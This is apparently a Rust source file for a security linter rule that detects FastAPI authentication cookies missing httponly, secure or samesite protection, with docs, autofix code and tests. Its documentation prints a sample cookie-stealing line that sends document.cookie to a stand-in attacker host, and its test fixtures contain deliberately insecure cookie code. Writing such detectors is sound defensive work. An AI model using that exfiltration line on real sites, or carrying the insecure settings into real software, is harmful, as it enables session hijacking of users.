//! Flags cookies with a login that scripts, plain connections or other sites get at.

use facts::Facts;
use facts::cookies::{LoginCookie, Protection, SameSite};
use report::{OwaspApi, Phase, Severity};

use crate::fix::Fix;
use crate::fixes::{calls, style, tokens};
use crate::rule::{Rule, RuleContext, declare_rule};

declare_rule! {
    /// ## What it finds
    ///
    /// A cookie that logs somebody in (`access_token`, `session`, `refresh_token`, …), set without `httponly=True`
    /// or `secure=True`, or with `samesite="none"` in a project without any defence against forged requests. Also
    /// fastapi-users' `CookieTransport` with these turned off.
    ///
    /// Flags from settings (`secure=settings.COOKIE_SECURE`, `secure=not DEBUG`), cookies that are taken away
    /// (`max_age=0`) and other cookies, a CSRF token that scripts must read among them, are right.
    ///
    /// ```python,finding
    /// from fastapi import FastAPI, Response
    ///
    /// app = FastAPI()
    ///
    /// @app.post("/login")
    /// def login(response: Response, token: str):
    ///     response.set_cookie("access_token", token, max_age=900)
    /// ```
    ///
    /// ## Why it matters
    ///
    /// Starlette (1.10) sets `SameSite=lax` and neither of the other two by itself. Without `HttpOnly` any script in
    /// the page reads the token, and one injected line of JavaScript sends it away. Without `Secure` the browser
    /// sends it over plain HTTP, where whoever shares the network reads it.
    ///
    /// ## How it is exploited
    ///
    /// `fetch("https://evil.example/?" + document.cookie)` in an injected script; or a link to
    /// `http://api.example.com/` in a mail, opened in a café.
    ///
    /// ## Use instead
    ///
    /// ```python,fixed
    /// from fastapi import FastAPI, Response
    ///
    /// app = FastAPI()
    ///
    /// @app.post("/login")
    /// def login(response: Response, token: str):
    ///     response.set_cookie("access_token", token, max_age=900, httponly=True, secure=True)
    /// ```
    ///
    /// ```python,ok
    /// response.set_cookie("access_token", token, httponly=True, secure=settings.COOKIE_SECURE, samesite="strict")
    /// ```
    ///
    /// ## References
    ///
    /// - OWASP Session Management Cheat Sheet, cookies: <https://cheatsheetseries.owasp.org/cheatsheets/Session_Management_Cheat_Sheet.html#cookies>
    /// - RFC 6265, sections 5.2.5 and 5.2.6: <https://www.rfc-editor.org/rfc/rfc6265#section-5.2.5>
    /// - CWE-614: <https://cwe.mitre.org/data/definitions/614.html>
    pub(super) static RULE: Rule = Rule {
        name: "insecure-auth-cookie",
        summary: "A cookie that logs users in lacks httponly, secure or samesite",
        severity: Severity::Warning,
        phase: Phase::SecurityConfiguration,
        cwe: 614,
        owasp: OwaspApi::BrokenAuthentication,
        checklist_item: None,
        fixable: true,
        supersedes: &[],
        check,
    };
}

fn check(context: &mut RuleContext<'_>) {
    let facts = context.facts();
    for cookie in facts.login_cookies() {
        let is_off = |protection| matches!(protection, Protection::Off | Protection::Missing);
        let mut faults = Vec::new();
        if is_off(cookie.http_only) {
            faults.push(format!(
                "without `{}`, so that scripts can read it",
                cookie.keywords.http_only
            ));
        }
        if is_off(cookie.secure) {
            faults.push(format!(
                "without `{}`, so that it is sent over plain HTTP",
                cookie.keywords.secure
            ));
        }
        if cookie.same_site == SameSite::None {
            let same_site = cookie.keywords.same_site;
            faults.push(format!(
                "with `{same_site}=\"none\"`, so that other sites' requests carry it, and nothing defends against those"
            ));
        }
        if faults.is_empty() {
            continue;
        }
        let name = match &cookie.name {
            Some(name) => format!("The cookie `{name}`"),
            None => "The login cookie".to_owned(),
        };
        let message = format!("{name} is set {}", faults.join("; "));
        context.report(cookie.call.span, message).fix(protect(facts, cookie));
    }
}

fn protect(facts: &Facts<'_>, cookie: &LoginCookie) -> Option<Fix> {
    if !tokens::is_plain(&cookie.call) {
        return None;
    }
    let mut fix = Fix::changes_behaviour("Protect the cookie");
    let mut missing = Vec::new();
    let keywords = &cookie.keywords;
    for (protection, keyword) in [(cookie.http_only, keywords.http_only), (cookie.secure, keywords.secure)] {
        match protection {
            Protection::Missing => missing.push(format!("{keyword}=True")),
            Protection::Off => {
                let argument = cookie.call.argument(None, &[keyword])?;
                fix = fix.edit(argument.value, "True");
            }
            Protection::On | Protection::Unknown => {}
        }
    }
    if cookie.same_site == SameSite::None {
        let argument = cookie.call.argument(None, &[keywords.same_site])?;
        let text = facts.text(cookie.call.span.file);
        fix = fix.edit(argument.value, style::string_literal(text, "lax"));
    }
    if !missing.is_empty() {
        fix = fix.with([calls::append_argument(facts, &cookie.call, &missing.join(", "))]);
    }
    Some(fix)
}

#[cfg(test)]
mod tests {
    use super::RULE;
    use crate::testing::{check, check_fix};

    #[test]
    fn flags() {
        check(
            r#"
            from fastapi import FastAPI, Response
            from fastapi.responses import JSONResponse, RedirectResponse
            from fastapi_users.authentication import CookieTransport

            app = FastAPI()
            COOKIE = "session"
            SECURE = False
            OPTIONS = {"httponly": True, "secure": False}

            @app.post("/a")
            def a(response: Response, token: str):
                response.set_cookie("access_token", token)  # finding: insecure-auth-cookie (warning, fix)
                response.set_cookie(key="refresh_token", value=token, httponly=True)  # finding: insecure-auth-cookie
                response.set_cookie(key="token", value=token, secure=True)  # finding: insecure-auth-cookie
                response.set_cookie(COOKIE, token, httponly=True, secure=SECURE)  # finding: insecure-auth-cookie
                response.set_cookie("jwt", token, **OPTIONS)  # finding: insecure-auth-cookie (no-fix)
                response.set_cookie("jwt", token, httponly=True, secure=True, samesite="none")  # finding: insecure-auth-cookie

            @app.post("/b")
            def b(token: str, name: str):
                answer = JSONResponse({})
                answer.set_cookie("user_id", token, 900, None, "/", None, False, True)  # finding: insecure-auth-cookie
                response = RedirectResponse("/")
                response.set_cookie(name, f"Bearer {token}")  # finding: insecure-auth-cookie
                return answer

            transport = CookieTransport(cookie_secure=False)  # finding: insecure-auth-cookie
            "#,
        );
    }

    #[test]
    fn stays_silent() {
        check(
            r#"
            import os
            from fastapi import FastAPI, Response
            from fastapi_users.authentication import CookieTransport
            from config import settings

            app = FastAPI()
            DEBUG = os.getenv("DEBUG") == "1"

            @app.post("/a")
            def a(response: Response, token: str, options: dict):
                response.set_cookie("access_token", token, httponly=True, secure=True)
                response.set_cookie("access_token", token, httponly=True, secure=settings.COOKIE_SECURE, samesite="none")
                response.set_cookie("access_token", token, httponly=True, secure=not DEBUG)
                response.set_cookie("access_token", token, **options)
                response.set_cookie("access_token", "", max_age=0)
                response.set_cookie("access_token", value="", expires=0)
                response.set_cookie("csrf_token", token)
                response.set_cookie("theme", "dark")
                response.delete_cookie("access_token")

            transport = CookieTransport(cookie_max_age=3600)
            #- config.py
            from pydantic_settings import BaseSettings

            class Settings(BaseSettings):
                COOKIE_SECURE: bool = False

            settings = Settings()
            #- tests/test_a.py
            def test_a(response):
                response.set_cookie("access_token", "x")
            "#,
        );
    }

    #[test]
    fn fixes() {
        check_fix(
            &RULE,
            r#"
            def a(response, token):
                response.set_cookie(  # finding: insecure-auth-cookie
                    key='access_token',
                    value=token,
                    secure=False,
                    samesite='none',
                )
            "#,
            r#"
            def a(response, token):
                response.set_cookie(
                    key='access_token',
                    value=token,
                    secure=True,
                    samesite='lax',
                    httponly=True,
                )
            "#,
        );
    }

    #[test]
    fn in_other_styles() {
        check(
            r#"
            import os
            from app.tokens import issue
            from fastapi import FastAPI
            from fastapi.responses import JSONResponse, RedirectResponse
            app = FastAPI()
            SAFE = {"httponly": True, "secure": True, "samesite": "lax"}
            NAMES = {"access": "access_token"}

            @app.post("/a")
            def a():
                answer = JSONResponse({"ok": True})
                answer.set_cookie(NAMES["access"], issue(), secure=True)  # finding: insecure-auth-cookie
                answer.set_cookie(NAMES["access"], issue(), **SAFE)  # ok
                answer.set_cookie(key="refresh_token", value=issue(), **{**SAFE, "secure": False})  # finding: insecure-auth-cookie
                answer.set_cookie(key="refresh_token", value=issue(), path="/refresh", **SAFE)  # ok
                return answer

            @app.get("/b")
            def b():
                answer = RedirectResponse("/")
                answer.set_cookie("jwt", issue(), 900, 900, "/", None, True, True)  # ok
                answer.set_cookie("language", "de")  # ok
                answer.set_cookie("session", issue(), httponly=not True, secure=True)  # finding: insecure-auth-cookie
                return answer
            "#,
        );
    }
}
